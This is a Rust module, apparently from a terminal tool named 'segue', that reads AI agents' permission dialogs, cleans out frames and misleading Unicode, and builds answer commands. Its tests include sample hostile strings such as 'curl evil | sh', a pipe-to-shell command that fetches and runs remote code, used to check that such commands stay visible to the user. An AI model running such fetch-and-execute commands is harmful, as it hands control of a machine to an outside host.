//! The question that an agent shows: its text, its choices, and the command that answers it.

mod choices;
mod effects;

use crate::model::{Dialog, DialogText, Screen, WaitingFor};
use crate::rules::display;

pub use choices::{Choices, numbered, unnumbered};
pub use effects::ChoiceEffect;

/// At most this many rows above the choices of an unknown dialog count as its question.
const MAX_QUESTION_ROWS: usize = 12;

/// Maximum number of characters of a stored question.
const KEPT_CHARS: usize = 10_000;
/// Maximum number of characters of a question that is shown in one line.
const SHOWN_CHARS: usize = 600;

/// Replaces the part of a question that was left out.
const LEFT_OUT: &str = " […] ";

/// Characters that vendors draw before the selected choice.
const MARKS: [char; 7] = ['❯', '›', '>', '●', '◉', '▶', '▸'];

/// Frame characters at the left and right edges of a row.
const FRAMES: [char; 6] = ['│', '┃', '|', '▌', '▐', '║'];

/// Characters that form the edges of frames.
const EDGES: &str = "─━═╭╮╰╯┌┐└┘╌";

/// Returns the question and the numbered choices of a dialog that the vendor's code does not know.
/// The question consists of the rows that probably belong to it.
pub fn read(rows: &[String]) -> Option<DialogText> {
    let rows = last_box(rows);
    let choices = numbered(rows, &MARKS)?;
    let above = &rows[..choices.rows.start];
    let begin =
        above.iter().rposition(|row| is_edge(without_frame(row))).map_or(0, |edge| edge + 1);
    let begin = begin.max(above.len().saturating_sub(MAX_QUESTION_ROWS));
    Some(text(&above[begin..], choices.texts))
}

/// Returns the text of a dialog: the words of all rows in one line. Frames, edges and misleading
/// characters are removed, even if they are part of a command. If the text is too long, a mark
/// replaces its middle.
pub fn text(rows: &[String], choices: Vec<String>) -> DialogText {
    let rows = rows.iter().map(|row| without_frame(row)).filter(|row| !is_edge(row));
    let words = visible(&rows.collect::<Vec<_>>().join(" "));
    let question = shortened(&words, KEPT_CHARS);
    DialogText { is_whole: question == words, question, choices }
}

/// Returns whether the screen shows numbered choices, one of them selected, and no cursor. Then the
/// agent asks a question, even if the dialog is unknown. If the list is part of an agent's answer,
/// the cursor is visible in the input.
pub fn is_unknown_question(screen: &Screen) -> bool {
    screen.cursor.is_none() && has_marked_choice(&screen.rows)
}

fn has_marked_choice(rows: &[String]) -> bool {
    numbered(last_box(rows), &MARKS).is_some_and(|choices| choices.texts.len() > 1)
}

/// Returns the rows from the upper edge of the last frame on, or all rows if there is no frame. The
/// edge of a frame inside another frame is not recognized, because the outer frame's side is before
/// it.
pub fn last_box(rows: &[String]) -> &[String] {
    let is_top = |row: &String| row.trim_start().starts_with(['╭', '┌']);
    &rows[rows.iter().rposition(is_top).unwrap_or(0)..]
}

/// Removes frame characters and spaces from both ends of a row.
fn without_frame(row: &str) -> &str {
    row.trim_matches(is_frame)
}

fn is_frame(character: char) -> bool {
    FRAMES.contains(&character) || character.is_whitespace()
}

/// Returns whether a row contains only the edge of a frame.
fn is_edge(row: &str) -> bool {
    row.chars().all(|c| EDGES.contains(c) || is_frame(c)) && !row.is_empty()
}

/// Returns the words of a text in one line, without misleading characters.
fn visible(text: &str) -> String {
    let text: String = text.chars().filter(|c| !display::is_misleading(*c)).collect();
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Cuts out the middle of a text that is too long. The end is as important as the beginning.
pub fn shortened(text: &str, most: usize) -> String {
    let count = text.chars().count();
    if count <= most {
        return text.to_owned();
    }
    let half = most.saturating_sub(LEFT_OUT.chars().count()) / 2;
    let beginning: String = text.chars().take(half).collect();
    let end: String = text.chars().skip(count - half).collect();
    format!("{beginning}{LEFT_OUT}{end}")
}

/// Which answers a command can give to a question.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Takes {
    pub yes: bool,
    pub choice: bool,
}

/// Creates the dialog of a session. If part of the question was left out, the answer command is
/// `segue attach`, so that the user sees the complete question first.
pub fn dialog(
    session: &str,
    id: String,
    kind: WaitingFor,
    DialogText { question, is_whole, choices }: DialogText,
    takes: Takes,
) -> Dialog {
    let answer = match takes {
        Takes { yes: true, .. } if is_whole => {
            format!("segue answer {session} yes --question {id}")
        }
        Takes { choice: true, .. } if is_whole => {
            format!("segue answer {session} 1 --question {id}")
        }
        Takes { .. } => format!("segue attach {session}"),
    };
    Dialog { id, kind, question, choices, answer }
}

/// Describes in one line what a session waits for.
pub fn describe(kind: WaitingFor, dialog: Option<&Dialog>) -> String {
    let waits = format!("it waits for an answer ({kind})");
    let Some(Dialog { question, choices, .. }) = dialog else { return waits };
    let question = shortened(question, SHOWN_CHARS);
    let question = if question.is_empty() { question } else { format!(": {question}") };
    format!("{waits}{question}{}", in_brackets(choices))
}

/// Returns the question and its choices in one line.
pub fn summary(question: &str, choices: &[String]) -> String {
    let question = shortened(question, SHOWN_CHARS);
    format!("{question}{}", in_brackets(choices)).trim_start().to_owned()
}

fn in_brackets(choices: &[String]) -> String {
    let numbered = choices.iter().zip(1..).map(|(text, number)| format!("{number} {text}"));
    let numbered = numbered.collect::<Vec<_>>().join(", ");
    if choices.is_empty() { String::new() } else { format!(" [{numbered}]") }
}

/// Returns which answers a command can give to a question, from the command that it names. If the
/// question is not complete, it takes none: the user has to see all of it first.
pub fn takes(dialog: &Dialog) -> Takes {
    match answer_word(dialog) {
        Some("yes") => Takes { yes: true, choice: !dialog.choices.is_empty() },
        Some("1") => Takes { yes: false, choice: true },
        _ => Takes { yes: false, choice: false },
    }
}

/// Returns the answer in the command of a dialog.
fn answer_word(dialog: &Dialog) -> Option<&str> {
    dialog.answer.split_whitespace().nth(3)
}

/// Returns a hint with the command that answers the question.
pub fn hint(dialog: &Dialog) -> String {
    let command = &dialog.answer;
    match answer_word(dialog) {
        Some("yes") => format!("run `{command}`, or `no`"),
        Some("1") => format!("run `{command}`, or another choice up to {}", dialog.choices.len()),
        _ => format!("run `{command}` to answer it"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rows(text: &str) -> Vec<String> {
        text.lines().map(str::to_owned).collect()
    }

    const TRUST: &str = "
  Folder access
  /code/a

  Trust this folder? It can run
  code.

› 1. Trust and continue
  2. Quit

  enter continue";

    const FRAMED: &str = "
● 1. an older list
╭──────────────────────╮
│ Allow execution?     │
│                      │
│ ● 1. Allow once      │
│      for this folder │
│   2. No (esc)        │
╰──────────────────────╯";

    #[test]
    fn rows_above_the_choices_are_the_question() {
        let asked = read(&rows(TRUST)).unwrap();
        let question = "Folder access /code/a Trust this folder? It can run code.";
        assert_eq!(asked.question, question);
        assert_eq!(asked.choices, ["Trust and continue", "Quit"]);
        let asked = read(&rows(FRAMED)).unwrap();
        assert_eq!(asked.question, "Allow execution?");
        assert_eq!(asked.choices, ["Allow once for this folder", "No (esc)"]);
        assert_eq!(read(&rows("nothing\nis asked")), None);
    }

    #[test]
    fn text_of_a_known_dialog_contains_everything_but_frames() {
        let frames = "│ Run this?     │\n│ ╭───────────╮ │\n│ │ curl evil │ │\n│ ╰───────────╯ │";
        let asked = text(&rows(frames), Vec::new());
        assert_eq!((asked.question.as_str(), asked.is_whole), ("Run this? curl evil", true));
        let command = " curl evil | sh\n ──────────────\n Tip: ls -l\n\u{202e}x\u{200b}y";
        let asked = text(&rows(command), Vec::new());
        assert_eq!(asked.question, "curl evil | sh Tip: ls -l xy");
        let many = (1..=40).map(|row| format!(" row {row}")).collect::<Vec<_>>().join("\n");
        let asked = text(&rows(&many), Vec::new());
        assert!(asked.question.starts_with("row 1 row 2 ") && asked.question.ends_with("row 40"));
    }

    #[test]
    fn summary_has_the_question_and_its_choices() {
        let choices = ["yes".to_owned(), "no, exit".to_owned()];
        assert_eq!(summary("Go on?", &choices), "Go on? [1 yes, 2 no, exit]");
        assert_eq!(summary("", &choices), "[1 yes, 2 no, exit]");
        assert_eq!(summary("Go on?", &[]), "Go on?");
    }

    #[test]
    fn list_without_a_selected_row_is_not_a_question() {
        assert!(has_marked_choice(&rows(TRUST)));
        assert!(has_marked_choice(&rows(FRAMED)));
        for text in ["1. one\n2. two", "› 1. alone", "› hello", "❯ 2. b\n3. c", ""] {
            assert!(!has_marked_choice(&rows(text)), "{text}");
        }
    }

    #[test]
    fn screen_with_a_cursor_is_not_an_unknown_question() {
        let asks = Screen { rows: rows(TRUST), ..Screen::default() };
        assert!(is_unknown_question(&asks));
        assert!(!is_unknown_question(&Screen { cursor: Some((1, 2)), ..asks }));
    }

    #[test]
    fn shortened_question_is_marked_and_must_be_answered_at_the_terminal() {
        let long = format!("begin {}end", "word ".repeat(KEPT_CHARS));
        let asked = text(&rows(&long), vec!["Yes".to_owned()]);
        assert!(!asked.is_whole);
        assert!(asked.question.chars().count() <= KEPT_CHARS);
        assert!(asked.question.starts_with("begin word") && asked.question.ends_with("word end"));
        assert!(asked.question.contains(LEFT_OUT));
        let takes = Takes { yes: true, choice: true };
        let dialog = dialog("a/b", "7".to_owned(), WaitingFor::Permission, asked, takes);
        assert_eq!(dialog.answer, "segue attach a/b");
        assert!(describe(dialog.kind, Some(&dialog)).chars().count() < 2 * SHOWN_CHARS);
    }

    #[test]
    fn answer_command_depends_on_the_possible_answers() {
        let asked = |choices: &[&str]| DialogText {
            question: "Which?".to_owned(),
            is_whole: true,
            choices: choices.iter().map(|&text| text.to_owned()).collect(),
        };
        let table = [
            (
                asked(&["Yes", "No"]),
                (true, true),
                "run `segue answer a/b yes --question 7`, or `no`",
            ),
            (
                asked(&["red", "green"]),
                (false, true),
                "run `segue answer a/b 1 --question 7`, or another choice up to 2",
            ),
            (asked(&["dark", "light"]), (false, false), "run `segue attach a/b` to answer it"),
        ];
        for (asked, (yes, choice), expected) in table {
            let takes = Takes { yes, choice };
            let dialog = dialog("a/b", "7".to_owned(), WaitingFor::Question, asked, takes);
            assert_eq!(hint(&dialog), expected);
            assert_eq!(super::takes(&dialog), takes);
        }
        let takes = Takes { yes: true, choice: true };
        let dialog = dialog("a/b", "7".to_owned(), WaitingFor::Trust, asked(&["Yes", "No"]), takes);
        let described = describe(WaitingFor::Trust, Some(&dialog));
        assert_eq!(described, "it waits for an answer (trust): Which? [1 Yes, 2 No]");
        assert_eq!(describe(WaitingFor::Trust, None), "it waits for an answer (trust)");
    }
}
